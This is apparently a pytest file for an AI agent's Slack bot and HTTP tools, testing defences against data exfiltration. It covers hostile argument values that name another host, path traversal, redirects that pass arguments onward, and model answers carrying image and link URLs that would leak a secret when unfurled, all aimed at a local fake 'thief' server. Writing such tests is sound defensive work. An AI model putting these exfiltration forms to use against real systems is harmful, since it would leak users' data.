"""Row 33: what a read tool was shown, and what an answer says, leads nowhere by itself."""

from collections.abc import AsyncIterator
from pathlib import Path
from uuid import UUID

import pytest
import pytest_asyncio
from slack_sdk.web.async_client import AsyncWebClient

from agent.egress import EgressPolicy
from agent.sandbox.policy import Mode
from agent.tools.base import CallContext, Outcome, Tool
from agent.tools.declared.source import DeclaredTools
from agent.tools.registry import Registry
from bot.directory import SlackCourier
from tests.acceptance.world import World
from tests.fakes.slack import ALICE, BOB, OPS, TEAM, FakeSlack
from tests.fakes.tongyi import Answer
from tests.unit.declared.fake_web import Asked, FakeWeb, Reply, fake_web

CONTEXT = CallContext(UUID(int=1), "call_1", UUID(int=2), UUID(int=3))
SECRET = "obviously-fake-customer-list"
LOOPBACK = EgressPolicy.of(allow_cidrs=["127.0.0.0/8"])
FILE = """
tools:
  - name: read_page
    kind: http
    description: Reads a page of the wiki.
    read_only: true
    parameters:
      page: {{type: string, pattern: '^(?s:.*)$', maxLength: 300}}
      section: {{type: string, pattern: '^(?s:.*)$', maxLength: 300}}
    http: {{origin: '{origin}', path: '/wiki/{{page}}', query: {{section: '{{section}}'}}}}
"""


@pytest_asyncio.fixture
async def thief() -> AsyncIterator[FakeWeb]:
    async with fake_web() as web:
        yield web


def reader(folder: Path, origin: str) -> tuple[Registry, Tool]:
    (folder / "wiki.yaml").write_text(FILE.format(origin=origin))
    registry = Registry([DeclaredTools(folder, mode=Mode.OFF, egress=LOOPBACK, secrets={})])
    tool = registry.by_name("read_page")
    assert tool, registry.problems()
    return registry, tool


@pytest.mark.parametrize("where", ["page", "section"])
@pytest.mark.parametrize(
    "form",
    [
        "{url}/?d={secret}",
        "//{host}/{secret}",
        "\\\\{host}\\{secret}",
        "@{host}/{secret}",
        "..%2f..%2f{url}",
        "{url}#x",
    ],
)
async def test_a_value_that_names_another_address_does_not_lead_there(
    tmp_path: Path, thief: FakeWeb, where: str, form: str
) -> None:
    """The pattern lets everything pass: the fixed origin holds alone."""
    async with fake_web() as wiki:
        registry, tool = reader(tmp_path, wiki.origin)
        value = form.format(url=thief.origin, host=f"127.0.0.1:{thief.port}", secret=SECRET)
        await registry.call(tool, {"page": "home", "section": "1"} | {where: value}, CONTEXT)
        assert all(asked.headers["host"] == f"127.0.0.1:{wiki.port}" for asked in wiki.asked)
        assert all(asked.target.startswith("/wiki/") for asked in wiki.asked)
    assert thief.asked == []


async def test_an_argument_that_is_an_address_is_no_argument(tmp_path: Path, thief: FakeWeb) -> None:
    async with fake_web() as wiki:
        registry, tool = reader(tmp_path, wiki.origin)
        for name in ("url", "origin", "host", "base_url", "headers"):
            args = {"page": "home", "section": "1", name: thief.origin}
            assert (await registry.call(tool, args, CONTEXT)).outcome is Outcome.FAILED
        assert wiki.asked == []
    assert thief.asked == []


async def test_a_redirect_that_carries_the_arguments_elsewhere_is_not_followed(tmp_path: Path, thief: FakeWeb) -> None:
    def onward(asked: Asked) -> Reply:
        return Reply("302 Found", {"location": f"{thief.origin}{asked.target}"})

    async with fake_web(onward) as wiki:
        registry, tool = reader(tmp_path, wiki.origin)
        result = await registry.call(tool, {"page": "home", "section": SECRET}, CONTEXT)
        assert len(wiki.asked) == 1
    assert result.outcome is Outcome.FAILED
    assert thief.asked == []


async def test_links_and_pictures_in_an_answer_are_fetched_by_nobody(dsn: str, thief: FakeWeb) -> None:
    url = f"{thief.origin}/?d={SECRET}"
    async with World(dsn) as world:
        world.tongyi.queue.append(Answer(text=f"![chart]({url}) [here]({url}) <{url}|there> {url}"))
        asked = await world.slack.say(ALICE, "show me the chart")
        answer = await world.slack.bot_message(OPS, asked["ts"])
        assert SECRET in world.slack.rendered(answer)
        waiting = await world.slack.say(ALICE, '{{tool restart {"service": "' + url + '"}}}')
        card = await world.slack.card(OPS, waiting["ts"])
        await world.slack.click(BOB, OPS, card, "approval_reject")
        await world.slack.bot_message(OPS, waiting["ts"], containing="Rejected by bob")
        posted = world.slack.called("chat.postMessage")
        assert len(posted) >= 3
        for call in posted:
            assert (call.args["unfurl_links"], call.args["unfurl_media"]) == (False, False)
        for call in (*posted, *world.slack.called("chat.update")):
            assert '"image"' not in str(call.args.get("blocks", "")).replace("'", '"')
    assert thief.asked == []


async def test_a_private_message_is_not_unfurled_either() -> None:
    async with FakeSlack() as slack:
        client = AsyncWebClient(slack.bot_token, base_url=slack.api_url)
        await SlackCourier(client).send(TEAM, ALICE, "Look at http://127.0.0.1:1/x")
        (call,) = slack.called("chat.postMessage")
        assert (call.args["unfurl_links"], call.args["unfurl_media"]) == (False, False)
